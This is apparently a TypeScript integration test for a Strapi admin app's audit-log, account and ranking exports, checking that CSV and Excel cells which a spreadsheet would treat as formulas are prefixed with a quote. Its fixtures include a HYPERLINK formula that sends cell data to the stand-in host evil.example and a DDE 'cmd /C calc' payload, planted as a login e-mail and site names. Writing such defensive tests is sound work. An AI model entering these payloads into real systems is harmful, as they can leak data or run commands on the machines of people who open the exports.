/**
 * Spreadsheet formulas in the exports, over real HTTP. Text someone outside the province's
 * control chose — the e-mail typed into a failed login, a staff member's own name, a site's
 * name — reaches the 操作日志, 账号安全 and 发布排名 downloads (CSV and Excel) as text: a cell a
 * spreadsheet would read as a formula starts with a single quote and keeps the rest. Honest
 * values, negative numbers and apostrophes among them, come out as they were.
 */
import ExcelJS from 'exceljs';
import { csvRecords, sheetRows } from '@test-helpers/spreadsheets';
import { asAdmin, createAdmin, startApp, type TestAdmin, type TestApp } from '@test-helpers/strapi';
import { PASSWORD_STATE } from '../../uids';

const SITE_ROUTE = '/content-manager/collection-types/api::site.site';
const DAY = 86_400_000;

/** What a stranger types as the e-mail of a login (Strapi lowercases it before anything else). */
const LOGIN_EMAIL = '=hyperlink("http://evil.example/?d="&a1,"x")@x.cn';
/** What a staff member may call themselves on their own profile page. */
const OWN_NAME = '=1+1';
const SITE_NAMES = {
  at: '@SUM(1)',
  plus: "+cmd|' /C calc'!A0",
  minus: '-2+3',
  tab: '\t=1',
  fullWidth: '＝1+1',
};
const HONEST_SITE = "Xi'an";
const YEAR = new Date().getFullYear();

let app: TestApp;
let province: TestAdmin;
let stale: TestAdmin;

const as = (admin: TestAdmin) => asAdmin(app, admin);
const quoted = (value: string) => `'${value}`;

beforeAll(async () => {
  app = await startApp('spreadsheet');
  province = await createAdmin(app, 'governance-provincial-admin', '省厅');
  stale = await createAdmin(app, 'governance-site-editor', '过期');
  await app.strapi.db
    .query(PASSWORD_STATE)
    .update({ where: { userId: stale.id }, data: { changedAt: new Date(Date.now() - 95 * DAY) } });

  // The sites, through the Content Manager as the province creates them.
  const create = async (data: Record<string, unknown>) =>
    (
      await as(province)
        .post(SITE_ROUTE, { active: true, ...data })
        .expect(201)
    ).body.data as { documentId: string };
  let order = 0;
  const cities: Record<string, string> = {};
  for (const [code, name] of Object.entries(SITE_NAMES)) {
    cities[code] = (
      await create({ code: code.toLowerCase(), name, level: 'city', sortOrder: (order += 1) })
    ).documentId;
  }
  await create({ code: 'xian', name: HONEST_SITE, level: 'city', sortOrder: order + 1 });
  // A county's 备注 is its city's name.
  await create({
    code: 'at-county',
    name: '某县',
    level: 'county',
    parent: cities.at,
    sortOrder: 1,
  });

  // A staff member names themselves on their own profile; a stranger tries a login.
  const editor = await createAdmin(app, 'governance-site-editor', '编辑');
  await app
    .http()
    .put('/admin/users/me')
    .set('Authorization', `Bearer ${editor.token}`)
    .send({ firstname: OWN_NAME, lastname: '' })
    .expect(200);
  await app
    .http()
    .post('/admin/login')
    .send({ email: editor.email, password: editor.password })
    .expect(200);
  await app
    .http()
    .post('/admin/login')
    .send({ email: LOGIN_EMAIL, password: 'Wrong-Passw0rd!' })
    .expect(400);
});

afterAll(async () => {
  await app?.stop();
});

describe('操作日志 export', () => {
  it("quotes the e-mail of a failed login and a staff member's own name", async () => {
    const records = csvRecords(
      await as(province).download('/governance/audit/export?format=csv').expect(200)
    );
    const failure = records.find((r) => r[2] === '登录失败' && r[4].includes('evil.example'));
    expect(failure).toBeDefined();
    expect(failure![3]).toBe(quoted(LOGIN_EMAIL));
    // The sentence begins with the actor, so it is quoted too.
    expect(failure![4].startsWith(quoted(`${LOGIN_EMAIL} 登录失败`))).toBe(true);
    const login = records.find((r) => r[2] === '登录成功' && r[3].includes('1+1'));
    expect(login![3]).toBe(quoted(`${OWN_NAME}（站点编辑）`));
    expect(login![4]).toBe(quoted(`${OWN_NAME}（站点编辑）登录`));
    // Honest cells as they were: the title, the filters, the stamp, the heading row, the numbers.
    expect(records.slice(0, 2)).toEqual([['操作日志'], ['全部记录']]);
    // (The layout itself: exports.int.test.ts.)
    expect(records[3][0]).toBe('序号');
    expect(records.slice(4).every((r) => /^\d+$/.test(r[0]))).toBe(true);
  });

  it('quotes them the same way in the Excel workbook', async () => {
    const res = await as(province).download('/governance/audit/export').expect(200);
    const rows = await sheetRows(res);
    const failure = rows.find((r) => r[2] === '登录失败' && String(r[4]).includes('evil.example'));
    expect(failure![3]).toBe(quoted(LOGIN_EMAIL));
    // Written as values: no cell is a formula.
    expect(rows.flat().some((cell) => typeof cell === 'object' && cell !== null)).toBe(false);
  });
});

describe('账号安全 export', () => {
  it("quotes a staff member's own name and leaves a negative number of days a number", async () => {
    const rows = await sheetRows(
      await as(province).download('/governance/reports/accounts').expect(200)
    );
    expect(rows.find((r) => String(r[0]).includes('1+1'))![0]).toBe(quoted(OWN_NAME));
    const expired = rows.find((r) => r[1] === stale.email)!;
    expect(expired[8]).toBe(-6);
  });
});

describe('发布排名 export', () => {
  const siteCells = (rows: unknown[][]) =>
    new Map(rows.filter((r) => typeof r[0] === 'string').map((r) => [r[0] as string, r]));

  it("quotes hostile site names in the CSV, the city named in a county's 备注 too", async () => {
    const cells = siteCells(
      csvRecords(
        await as(province)
          .download(`/governance/rankings/export?year=${YEAR}&format=csv`)
          .expect(200)
      )
    );
    for (const name of Object.values(SITE_NAMES)) {
      expect(cells.get(quoted(name))).toEqual([
        quoted(name),
        '0',
        '1',
        '0',
        '0',
        '',
        '本年未发布信息',
      ]);
      expect(cells.has(name)).toBe(false);
    }
    expect(cells.get('某县')![6]).toBe(quoted(`${SITE_NAMES.at}；本年未发布信息`));
    expect(cells.get(HONEST_SITE)).toEqual([HONEST_SITE, '0', '1', '0', '0', '', '本年未发布信息']);
  });

  it('quotes them the same way in the Excel workbook, where counts stay numbers', async () => {
    const res = await as(province)
      .download(`/governance/rankings/export?year=${YEAR}&format=xlsx`)
      .expect(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body);
    const sheet = book.worksheets[0];
    const cells = siteCells(
      sheet
        .getSheetValues()
        .filter(Boolean)
        .map((row) => (row as unknown[]).slice(1))
    );
    for (const name of Object.values(SITE_NAMES)) {
      expect(cells.get(quoted(name))).toEqual([quoted(name), 0, 1, 0, 0, '', '本年未发布信息']);
      expect(cells.has(name)).toBe(false);
    }
    expect(cells.get(HONEST_SITE)).toEqual([HONEST_SITE, 0, 1, 0, 0, '', '本年未发布信息']);
    // No cell in the workbook is a formula.
    sheet.eachRow((row) =>
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula))
    );
  });
});
